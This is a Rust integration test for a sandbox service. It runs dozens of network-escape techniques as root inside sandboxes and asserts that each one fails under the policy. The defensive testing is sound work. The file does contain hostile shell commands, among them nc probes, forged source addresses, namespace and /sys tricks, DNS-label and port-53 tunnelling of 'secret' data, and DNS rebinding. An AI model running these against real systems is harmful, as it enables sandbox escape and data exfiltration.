//! Escapes tried as root inside a sandbox, through exec, in the lab, against
//! sandboxes in every mode (issue 8's list, started; docs/SECURITY.md keeps
//! the table). Each technique prints `ESCAPED` when it worked; a
//! destination counts as reached when the connection completed or the
//! destination refused it (a reset came back), since either means packets
//! passed. Only lab (TEST-NET) addresses are targets, and the lab's own
//! namespaces for link-local, broadcast and multicast (stand-in listeners
//! in the lab's `host` and `world` namespaces show that nothing arrived).
//! Busybox has no UDP client, so `netprobe.c` (UDP datagrams of any size,
//! broadcast, IPv6 scope ids, TCP connects) is built static and put in the
//! sandboxes' snapshot. DNS messages are written byte by byte with `printf`
//! and their answers read with `od`; the lab's resolver counts the queries
//! that reached it.

#![allow(clippy::unwrap_used)]

mod common;

use common::Api;
use sandgate_lab::addrs::*;
use serde_json::json;

/// A shell function: prints ESCAPED if `host` `port` is reached.
const REACH: &str = "reach() { out=$(nc -w 2 \"$1\" \"$2\" </dev/null 2>&1); rc=$?; \
    case \"$out\" in *refused*) echo ESCAPED;; esac; [ $rc = 0 ] && echo ESCAPED; true; }";

/// Shell functions over `netprobe`: `ureach` prints ESCAPED if a UDP
/// datagram to `host` `port` was answered, `treach` if a TCP connect (to an
/// IPv6 address with a scope) completed or was refused.
const PROBE: &str = "ureach() { netprobe -s ${3:-100} \"$1\" \"$2\" | grep -q '^reply' && echo ESCAPED; true; }; \
    treach() { case $(netprobe -t -w 2000 \"$1\" \"$2\") in connected|refused) echo ESCAPED;; esac; true; }";

/// Shell functions sending a DNS message (octal escapes for `printf`) to
/// `host` port 53 over TCP (`dnstcp`, the message with its length prefix)
/// or UDP (`dnsudp`): print the answer's `rcode=N`, and ESCAPED if it
/// carries example.com's and example.net's lab address ([`SERVER4_B`]).
const DNS: &str = "dnstcp() { h=$(printf \"$2\" | timeout 3 nc \"$1\" 53 | od -An -tx1 -v | tr -s ' \\n' ' '); \
    set -- $h; [ $# -ge 6 ] && echo rcode=$((0x$6 & 15)); case \"$h\" in *'c6 33 64 0a'*) echo ESCAPED;; esac; true; }; \
    dnsudp() { h=$(printf \"$2\" | netprobe \"$1\" 53 | sed -n 's/^hex://p'); \
    set -- $h; [ $# -ge 4 ] && echo rcode=$((0x$4 & 15)); case \"$h\" in *'c6 33 64 0a'*) echo ESCAPED;; esac; true; }";

/// The gateway's link-local address, as root inside a sandbox can work it
/// out: the EUI-64 address of the gateway's hardware address (in the
/// neighbour table) into `$ll`.
const GATEWAY_LL: &str = "set -- $(ip neigh | awk '/lladdr/ {print $5; exit}' | tr : ' '); \
    ll=$(printf 'fe80::%x:%x:%x:%x' $((0x$1$2 ^ 0x200)) $((0x${3}ff)) $((0xfe$4)) $((0x$5$6)))";

/// A DNS query message: one question per name, of type `qtype`, class IN;
/// each name given as its labels (so a label may hold a dot).
fn query(id: u16, names: &[&[&str]], qtype: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[1, 0]);
    m.extend_from_slice(&(names.len() as u16).to_be_bytes());
    m.extend_from_slice(&[0; 6]);
    for labels in names {
        for l in *labels {
            m.push(l.len() as u8);
            m.extend_from_slice(l.as_bytes());
        }
        m.push(0);
        m.extend_from_slice(&qtype.to_be_bytes());
        m.extend_from_slice(&[0, 1]);
    }
    m
}

/// `bytes` as `printf` octal escapes.
fn octal(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("\\{b:03o}")).collect()
}

/// `bytes` with the two-byte length of DNS over TCP, as `printf` escapes.
fn tcp_message(bytes: &[u8]) -> String {
    let mut m = (bytes.len() as u16).to_be_bytes().to_vec();
    m.extend_from_slice(bytes);
    octal(&m)
}

/// `ip -o` lines of the lab's host namespace (`what`: `addr` or `link`).
fn host_ip(api: &Api, what: &str) -> String {
    let out = std::process::Command::new("ip")
        .args(["-n", api.lab().host().name(), "-o", what])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    String::from_utf8(out.stdout).unwrap()
}

/// The first global address of `family` (`-4`, `-6`) on a sandbox's
/// `eth0`, without its prefix length.
fn sandbox_addr(api: &Api, key: &str, name: &str, family: &str) -> String {
    let r = api.exec(
        key,
        name,
        &format!("ip {family} -o addr show dev eth0 scope global"),
    );
    r["stdout"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .nth(3)
        .unwrap()
        .split('/')
        .next()
        .unwrap()
        .to_string()
}

/// Sizes of the stream files `/tmp/a` and `/tmp/b` in a sandbox, read
/// twice, `gap` seconds apart, after `settle` seconds.
fn stream_sizes(api: &Api, key: &str, name: &str, settle: u32, gap: u32) -> [u64; 4] {
    let r = api.exec(
        key,
        name,
        &format!("sleep {settle}; stat -c %s /tmp/a /tmp/b; sleep {gap}; stat -c %s /tmp/a /tmp/b"),
    );
    let v: Vec<u64> = r["stdout"]
        .as_str()
        .unwrap()
        .split_whitespace()
        .map(|n| n.parse().unwrap())
        .collect();
    assert_eq!(v.len(), 4, "{r}");
    [v[0], v[1], v[2], v[3]]
}

#[derive(Default)]
struct Technique {
    name: &'static str,
    command: String,
    /// Modes it is tried in.
    modes: &'static [&'static str],
    /// What its output must show in every mode, at least so many times
    /// (so that it did run: a datagram was sent, an answer came back
    /// refused).
    expect: Option<(&'static str, usize)>,
    /// The lab's resolver must count no query while it runs.
    dns_silent: bool,
}

const ALL: &[&str] = &["open", "allowlist", "restricted", "blocked"];
const LISTED: &[&str] = &["allowlist", "restricted", "blocked"];

#[test]
fn root_inside_a_sandbox_gets_nothing_out_past_its_policy() {
    let api = Api::start();
    // The probe program, in the snapshot before any sandbox is made.
    api.install("netprobe");
    let (_, k3) = api.organization("acme", 3);
    let (_, k1) = api.organization("small", 1);
    let mut ids = std::collections::BTreeMap::new();
    for (mode, key, body) in [
        ("open", &k3, json!({"name": "open"})),
        (
            "allowlist",
            &k3,
            json!({"name": "allowlist", "networkAllowList": format!("{SERVER4}/32"), "domainAllowList": "example.com,rebind.example.com"}),
        ),
        ("restricted", &k1, json!({"name": "restricted"})),
        (
            "blocked",
            &k3,
            json!({"name": "blocked", "networkBlockAll": true}),
        ),
    ] {
        let s = api.sandbox(key, body);
        assert_eq!(s["effectiveNetwork"]["mode"], mode, "{s}");
        ids.insert(mode, (key.clone(), s["name"].as_str().unwrap().to_string()));
    }
    api.sandbox(&k3, json!({"name": "victim"}));
    let victim_ip = sandbox_addr(&api, &k3, "victim", "-4");
    assert!(
        victim_ip.starts_with("198.18.") || victim_ip.starts_with("198.19."),
        "{victim_ip}"
    );
    let victim_ip6 = sandbox_addr(&api, &k3, "victim", "-6");
    assert!(victim_ip6.starts_with("2001:db8:"), "{victim_ip6}");

    // Stand-in listeners. In the lab's host namespace, on the wildcard
    // address: UDP 9999 and 5353 (IPv4, joined to 239.1.2.3 and
    // 224.0.0.251 on every slot's host-side interface) and 9998 (IPv6,
    // joined to ff02::fb there; ff02::1 needs no join). In the world, on
    // port 53 of a server the allowlist sandbox may reach (UDP and TCP):
    // only the DNS service may answer port 53.
    let addrs = host_ip(&api, "addr");
    let links = host_ip(&api, "link");
    let slot_v4: Vec<std::net::Ipv4Addr> = addrs
        .lines()
        .filter(|l| {
            l.split_whitespace()
                .nth(1)
                .is_some_and(|i| i.starts_with("sgh"))
        })
        .filter_map(|l| {
            let mut w = l.split_whitespace().skip(2);
            (w.next() == Some("inet")).then(|| {
                w.next()
                    .unwrap()
                    .split('/')
                    .next()
                    .unwrap()
                    .parse()
                    .unwrap()
            })
        })
        .collect();
    let slot_index: Vec<u32> = links
        .lines()
        .filter(|l| {
            l.split_whitespace()
                .nth(1)
                .is_some_and(|i| i.starts_with("sgh"))
        })
        .map(|l| l.split(':').next().unwrap().trim().parse().unwrap())
        .collect();
    assert!(
        slot_v4.len() >= 5 && slot_index.len() >= 5,
        "{addrs}\n{links}"
    );
    let (group4, mdns4, mdns6) = (
        std::net::Ipv4Addr::new(239, 1, 2, 3),
        std::net::Ipv4Addr::new(224, 0, 0, 251),
        "ff02::fb".parse::<std::net::Ipv6Addr>().unwrap(),
    );
    let (host_udp, host_mdns, host_udp6) = api
        .lab()
        .host()
        .run(|| {
            let a = std::net::UdpSocket::bind("0.0.0.0:9999")?;
            let b = std::net::UdpSocket::bind("0.0.0.0:5353")?;
            let c = std::net::UdpSocket::bind("[::]:9998")?;
            for gw in &slot_v4 {
                a.join_multicast_v4(&group4, gw)?;
                a.join_multicast_v4(&mdns4, gw)?;
                b.join_multicast_v4(&mdns4, gw)?;
            }
            for i in &slot_index {
                c.join_multicast_v6(&mdns6, *i)?;
            }
            Ok((a, b, c))
        })
        .unwrap();
    let (world_udp, world_tcp) = api
        .lab()
        .world()
        .run(|| {
            Ok((
                std::net::UdpSocket::bind((SERVER4, 53))?,
                std::net::TcpListener::bind((SERVER4, 53))?,
            ))
        })
        .unwrap();
    let stand_ins = [&host_udp, &host_mdns, &host_udp6, &world_udp];
    for s in stand_ins {
        s.set_nonblocking(true).unwrap();
    }
    world_tcp.set_nonblocking(true).unwrap();

    // DNS messages written by hand.
    let net: &[&str] = &["example", "net"];
    let com: &[&str] = &["example", "com"];
    let a_net_tcp = tcp_message(&query(0x1234, &[net], 1));
    let null_net = query(0x1235, &[net], 10);
    let two_questions = tcp_message(&query(0x1236, &[com, net], 1));
    let dotted_label = tcp_message(&query(0x1237, &[&["example.com"]], 1));

    let gw = "$(ip route | awk '/default/ {print $3}')";
    let techniques = vec![
        Technique { name: "add an address", command: "ip addr add 198.51.100.77/32 dev eth0 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "add a route", command: "ip route add 203.0.113.0/24 dev eth0 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "add a link", command: "ip link add d0 type dummy 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "add a tunnel device", command: "ip tuntap add t0 mode tun 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "bind a forged source", command: format!("echo x | nc -w 1 -s 198.51.100.77 {SERVER4} {TCP_ECHO} 2>/dev/null | grep -q x && echo ESCAPED"), modes: ALL, ..Default::default() },
        Technique { name: "raw socket (ICMP payload)", command: format!("ping -c 1 -W 1 {SERVER4} >/dev/null 2>&1 && echo ESCAPED"), modes: ALL, ..Default::default() },
        Technique { name: "write a network sysctl", command: "echo 0 > /proc/sys/net/ipv4/conf/all/rp_filter 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "new network namespace", command: "unshare -n true 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "remount /sys read-write", command: "mount -o remount,rw /sys 2>/dev/null && echo ESCAPED".into(), modes: ALL, ..Default::default() },
        Technique { name: "the host's other ports", command: format!("{REACH}; reach {gw} 22; reach {gw} 80"), modes: ALL, ..Default::default() },
        Technique { name: "the DNS service's own port, directly", command: format!("{REACH}; reach {gw} 10053"), modes: ALL, ..Default::default() },
        Technique { name: "the host's uplink address", command: format!("{REACH}; reach 203.0.113.1 22"), modes: ALL, ..Default::default() },
        Technique { name: "another sandbox", command: format!("{REACH}; reach {victim_ip} 22"), modes: ALL, ..Default::default() },
        Technique { name: "a private range", command: format!("{REACH}; reach {PRIVATE_SERVER4} {TCP_ECHO}"), modes: ALL, ..Default::default() },
        Technique { name: "an always-denied range", command: format!("{REACH}; reach {DENIED_SERVER4} {TCP_ECHO}; reach {DENIED_SERVER6} {TCP_ECHO}"), modes: ALL, ..Default::default() },
        Technique { name: "a public server not allowed", command: format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}"), modes: LISTED, ..Default::default() },
        Technique { name: "DNS over TLS or HTTPS to an address not allowed", command: format!("{REACH}; reach {SERVER4_B} 853; reach {SERVER4_B} {HTTPS}"), modes: LISTED, ..Default::default() },
        Technique { name: "IPv6 past an IPv4 list", command: format!("{REACH}; reach {SERVER6} {TCP_ECHO}"), modes: LISTED, ..Default::default() },
        Technique { name: "connect before the DNS answer", command: format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}"), modes: &["allowlist"], ..Default::default() },
        Technique { name: "a hard-coded resolver", command: format!("nslookup example.net {DNS4} 2>&1 | grep -q {SERVER4_B} && echo ESCAPED"), modes: LISTED, dns_silent: true, ..Default::default() },
        Technique { name: "a resolver over IPv6", command: format!("nslookup example.net {DNS6} 2>&1 | grep -q {SERVER4_B} && echo ESCAPED"), modes: LISTED, dns_silent: true, ..Default::default() },
        Technique { name: "IPv6 link-local to the gateway", command: format!("{GATEWAY_LL}; echo ll=$ll; {PROBE}; treach $ll%eth0 22 & treach $ll%eth0 10053 & treach $ll%eth0 53 & wait"), modes: ALL, expect: Some(("ll=fe80::", 1)), ..Default::default() },
        Technique { name: "the gateway's global IPv6 address", command: format!("{REACH}; gw6=$(ip -6 route | awk '/default/ {{print $3}}'); reach $gw6 22 & reach $gw6 80 & reach $gw6 10053 & wait"), modes: ALL, ..Default::default() },
        Technique { name: "another sandbox over IPv6", command: format!("{REACH}; reach {victim_ip6} 22"), modes: ALL, ..Default::default() },
        Technique { name: "DNS over TCP to a hard-coded resolver", command: format!("{DNS}; dnstcp {DNS4} '{a_net_tcp}'"), modes: LISTED, expect: Some(("rcode=5", 1)), dns_silent: true },
        Technique { name: "TXT records of a name not allowed", command: "nslookup -type=txt example.net 2>&1; nslookup -type=txt c2VjcmV0.example.net 2>&1".into(), modes: LISTED, expect: Some(("REFUSED", 2)), dns_silent: true },
        Technique { name: "NULL records of a name not allowed (UDP and TCP)", command: format!("{PROBE}; {DNS}; dnsudp {DNS4} '{}'; dnstcp {DNS4} '{}'", octal(&null_net), tcp_message(&null_net)), modes: LISTED, expect: Some(("rcode=5", 2)), dns_silent: true },
        Technique { name: "a second question in one query", command: format!("{DNS}; dnstcp {DNS4} '{two_questions}'"), modes: LISTED, expect: Some(("rcode=4", 1)), dns_silent: true },
        Technique { name: "a label with a dot in it", command: format!("{DNS}; dnstcp {DNS4} '{dotted_label}'"), modes: LISTED, expect: Some(("rcode=5", 1)), dns_silent: true },
        Technique { name: "UDP to a server not allowed (QUIC-style)", command: format!("{PROBE}; ureach {SERVER4_B} {UDP_ECHO} 1200 & ureach {SERVER6_B} {UDP_ECHO} 1200 & wait"), modes: LISTED, ..Default::default() },
        Technique { name: "a fragmented datagram to a server not allowed", command: format!("{PROBE}; ureach {SERVER4_B} {UDP_ECHO} 3000 & ureach {SERVER6_B} {UDP_ECHO} 3000 & wait"), modes: LISTED, ..Default::default() },
        Technique { name: "a fragmented datagram to an always-denied range", command: format!("{PROBE}; ureach {DENIED_SERVER4} {UDP_ECHO} 3000 & ureach {DENIED_SERVER6} {UDP_ECHO} 3000 & wait"), modes: ALL, ..Default::default() },
        Technique {
            name: "non-DNS data to port 53 (a tunnel over UDP and TCP)",
            command: format!("{PROBE}; d='tunnel-data-not-dns-0123456789'; for h in {SERVER4} {DNS4}; do printf $d | netprobe -w 500 $h 53 & printf $d | timeout 2 nc $h 53 & done; wait"),
            modes: ALL,
            expect: Some(("sent 30", 2)),
            dns_silent: true,
        },
        Technique {
            name: "broadcast (limited and the sandbox subnets')",
            command: "netprobe -b -s 100 -w 300 255.255.255.255 9999; netprobe -b -s 100 -w 300 255.255.255.255 5353; netprobe -b -s 100 -w 300 198.19.255.255 9999".into(),
            modes: ALL,
            expect: Some(("sent 100", 3)),
            ..Default::default()
        },
        Technique {
            name: "multicast (239.1.2.3, mDNS 224.0.0.251 and ff02::fb, ff02::1)",
            command: "for d in 239.1.2.3:9999 224.0.0.251:9999 224.0.0.251:5353 ff02::fb%eth0:9998 ff02::1%eth0:9998; do netprobe -s 100 -w 200 ${d%:*} ${d##*:}; done".into(),
            modes: ALL,
            expect: Some(("sent 100", 5)),
            ..Default::default()
        },
        Technique { name: "DNS rebinding: an allowed name answered with a private and an always-denied address", command: format!("{REACH}; nslookup rebind.example.com >/dev/null 2>&1; reach {PRIVATE_SERVER4} {TCP_ECHO} & reach {DENIED_SERVER6} {TCP_ECHO} & wait"), modes: &["open", "allowlist"], ..Default::default() },
    ];

    let mut tried = 0;
    for t in &techniques {
        for mode in t.modes {
            let (key, name) = &ids[mode];
            let before = api.lab().dns_queries();
            let r = api.exec(key, name, &t.command);
            let out = r["stdout"].as_str().unwrap();
            assert!(!out.contains("ESCAPED"), "{} worked in {mode}: {r}", t.name);
            if let Some((e, n)) = t.expect {
                assert!(
                    out.matches(e).count() >= n,
                    "{} did not run in {mode}: {r}",
                    t.name
                );
            }
            if t.dns_silent {
                assert_eq!(
                    api.lab().dns_queries(),
                    before,
                    "{} reached the lab's resolver in {mode}: {r}",
                    t.name
                );
            }
            println!("{} in {mode}: {}", t.name, out.trim().replace('\n', " | "));
            tried += 1;
        }
    }

    // Nothing reached a stand-in: not a broadcast or multicast datagram
    // (the host's input hook takes only redirected DNS from a slot), not
    // the data sent to port 53 (the DNS service got it, not the server).
    let mut buf = [0u8; 4096];
    for s in stand_ins {
        let got = s.recv_from(&mut buf);
        assert!(got.is_err(), "a stand-in got {got:?} ({s:?})");
    }
    let got = world_tcp.accept();
    assert!(got.is_err(), "the world's port 53 stand-in got {got:?}");
    // Control: the stand-ins do receive what reaches them.
    api.lab()
        .host()
        .run(|| {
            let s = std::net::UdpSocket::bind("[::1]:0")?;
            s.send_to(b"x", "[::1]:9998")?;
            let s = std::net::UdpSocket::bind("127.0.0.1:0")?;
            s.send_to(b"x", "127.0.0.1:9999")?;
            s.send_to(b"x", "127.0.0.1:5353")
        })
        .unwrap();
    api.lab()
        .world()
        .run(|| {
            let s = std::net::UdpSocket::bind((SERVER4, 0))?;
            s.send_to(b"x", (SERVER4, 53))?;
            std::net::TcpStream::connect((SERVER4, 53)).map(drop)
        })
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(100));
    for s in stand_ins {
        assert!(s.recv_from(&mut buf).is_ok(), "{s:?}");
    }
    assert!(world_tcp.accept().is_ok());

    // Tunnelling through labels: a name not allowed is refused, and its
    // query never reaches a resolver outside.
    let (key, name) = &ids["allowlist"];
    let before = api.lab().dns_queries();
    let r = api.exec(
        key,
        name,
        "nslookup c2VjcmV0LWRhdGE.x7.example.net 2>&1; nslookup data.example.org 2>&1",
    );
    assert!(!r["stdout"].as_str().unwrap().contains("Address: 1"), "{r}");
    assert_eq!(
        api.lab().dns_queries(),
        before,
        "a refused name was forwarded"
    );

    // The controls: the same commands reach what the policy allows, so a
    // technique that failed did not fail for an unrelated reason.
    let (key, name) = &ids["open"];
    // (Port 22 of the world's server is closed: its reset counts.)
    let r = api.exec(key, name, &format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}; reach {SERVER6} {TCP_ECHO}; reach {SERVER4_B} 22"));
    assert_eq!(
        r["stdout"].as_str().unwrap().matches("ESCAPED").count(),
        3,
        "{r}"
    );
    let (key, name) = &ids["allowlist"];
    let r = api.exec(key, name, &format!("{REACH}; reach {SERVER4} {TCP_ECHO}"));
    assert!(r["stdout"].as_str().unwrap().contains("ESCAPED"), "{r}");
    // A name allowed admits its address (and only after the answer).
    let r = api.exec(
        key,
        name,
        &format!("nslookup example.com >/dev/null 2>&1; {REACH}; reach {SERVER4_B} {TCP_ECHO}"),
    );
    assert!(r["stdout"].as_str().unwrap().contains("ESCAPED"), "{r}");
    // The probe program reaches what is allowed: UDP, whole or in
    // fragments, and TCP (a connection, a closed port's reset).
    let r = api.exec(
        key,
        name,
        &format!("{PROBE}; ureach {SERVER4} {UDP_ECHO} 3000; ureach {SERVER4} {UDP_ECHO} 1200"),
    );
    assert_eq!(
        r["stdout"].as_str().unwrap().matches("ESCAPED").count(),
        2,
        "{r}"
    );
    // DNS over TCP, TXT and NULL records work for a name allowed: those
    // refused were refused for the name.
    let before = api.lab().dns_queries();
    let r = api.exec(
        key,
        name,
        &format!(
            "{PROBE}; {DNS}; dnstcp {DNS4} '{}'; nslookup -type=txt example.com 2>&1; dnsudp {DNS4} '{}'",
            tcp_message(&query(0x4321, &[com], 1)),
            octal(&query(0x4322, &[com], 10)),
        ),
    );
    let out = r["stdout"].as_str().unwrap();
    assert!(
        out.contains("ESCAPED") && out.matches("rcode=0").count() == 2,
        "{r}"
    );
    assert!(!out.contains("REFUSED"), "{r}");
    assert!(api.lab().dns_queries() >= before + 2, "{r}");
    // Rebinding: the allowed name is answered, without the private and
    // always-denied addresses; the open sandbox gets them (and its connects
    // to them were denied by the ranges).
    let r = api.exec(key, name, "nslookup rebind.example.com 2>&1");
    let out = r["stdout"].as_str().unwrap();
    assert!(!out.contains("REFUSED"), "{r}");
    assert!(
        !out.contains(&PRIVATE_SERVER4.to_string()) && !out.contains(&DENIED_SERVER6.to_string()),
        "{r}"
    );
    let (okey, oname) = &ids["open"];
    let r = api.exec(okey, oname, "nslookup rebind.example.com 2>&1");
    assert!(
        r["stdout"]
            .as_str()
            .unwrap()
            .contains(&PRIVATE_SERVER4.to_string()),
        "{r}"
    );
    // The open sandbox's probes: UDP and fragments to the server the
    // listed modes could not reach, TCP through `treach`; the link-local
    // address worked out inside is the gateway's own.
    let r = api.exec(
        okey,
        oname,
        &format!("{PROBE}; ureach {SERVER4_B} {UDP_ECHO} 1200; ureach {SERVER4_B} {UDP_ECHO} 3000; ureach {SERVER6_B} {UDP_ECHO} 3000; treach {SERVER4_B} {TCP_ECHO}; treach {SERVER4_B} 22; {GATEWAY_LL}; echo ll=$ll"),
    );
    let out = r["stdout"].as_str().unwrap();
    assert_eq!(out.matches("ESCAPED").count(), 5, "{r}");
    let ll: std::net::Ipv6Addr = out
        .lines()
        .find_map(|l| l.strip_prefix("ll="))
        .unwrap()
        .parse()
        .unwrap();
    let gateways_ll: Vec<std::net::Ipv6Addr> = addrs
        .lines()
        .filter(|l| l.contains("scope link"))
        .filter_map(|l| {
            let mut w = l.split_whitespace().skip_while(|w| *w != "inet6");
            w.nth(1)?.split('/').next()?.parse().ok()
        })
        .collect();
    assert!(
        gateways_ll.contains(&ll),
        "{ll} is not a gateway's: {addrs}"
    );

    // By design: the admitted address is reachable whatever name a program
    // uses for it (a CDN-style shared address serves example.net too);
    // admission is per address, not per name (docs/SECURITY.md).

    // A policy update mid-transfer (REQUIREMENTS.md section 1, "Updates";
    // DATAPLANE.md, "Generations"): two streams, one allowed by the list
    // (SERVER4), one by an admission (SERVER4_B, example.com's answer).
    // Removing the list entry stops the first within a second and leaves
    // the second running; removing the name then stops the second, and its
    // admitted address is no longer reachable.
    let s = api.sandbox(
        &k3,
        json!({"name": "updated", "networkAllowList": format!("{SERVER4}/32"), "domainAllowList": "example.com"}),
    );
    assert_eq!(s["effectiveNetwork"]["mode"], "allowlist", "{s}");
    let (key, name) = (&k3, "updated");
    let stream = |to: std::net::IpAddr, file: &str| {
        format!("setsid sh -c 'nc {to} {TCP_STREAM} </dev/null | fold -w 1000 | tr -dc \"\\n\" >{file}' >/dev/null 2>&1 &")
    };
    api.exec(
        key,
        name,
        &format!(
            "nslookup example.com >/dev/null 2>&1; {} {} sleep 1",
            stream(SERVER4, "/tmp/a"),
            stream(SERVER4_B, "/tmp/b")
        ),
    );
    let update = |body: serde_json::Value| {
        let (status, v) = api.post(&format!("/api/sandbox/{name}/network-settings"), key, body);
        assert_eq!(status, 200, "{v}");
        assert_eq!(v["effectiveNetwork"]["mode"], "allowlist", "{v}");
    };
    let flowing = stream_sizes(&api, key, name, 1, 1);
    assert!(
        flowing[2] > flowing[0] && flowing[3] > flowing[1],
        "{flowing:?}"
    );
    update(json!({"networkAllowList": ""}));
    let sizes = stream_sizes(&api, key, name, 1, 2);
    println!(
        "policy update mid-transfer: before {flowing:?}, after removing {SERVER4}/32 {sizes:?}"
    );
    assert_eq!(
        sizes[0], sizes[2],
        "the stream of a removed entry still flows: {sizes:?}"
    );
    assert!(
        sizes[3] > sizes[1],
        "the stream of an admission stopped too: {sizes:?}"
    );
    let r = api.exec(key, name, &format!("{REACH}; reach {SERVER4} {TCP_ECHO}"));
    assert!(!r["stdout"].as_str().unwrap().contains("ESCAPED"), "{r}");
    tried += 1;
    update(json!({"domainAllowList": "example.org"}));
    let sizes = stream_sizes(&api, key, name, 1, 2);
    println!("an admitted name removed: streams {sizes:?}");
    assert_eq!(
        sizes[1], sizes[3],
        "the stream of a removed name still flows: {sizes:?}"
    );
    let r = api.exec(
        key,
        name,
        &format!("{REACH}; reach {SERVER4_B} {TCP_ECHO}; nslookup example.com 2>&1"),
    );
    let out = r["stdout"].as_str().unwrap();
    assert!(!out.contains("ESCAPED") && out.contains("REFUSED"), "{r}");
    tried += 1;
    api.exec(key, name, "kill $(pidof nc)");

    println!("{tried} technique runs, none got out");
    assert!(tried >= 129);
}
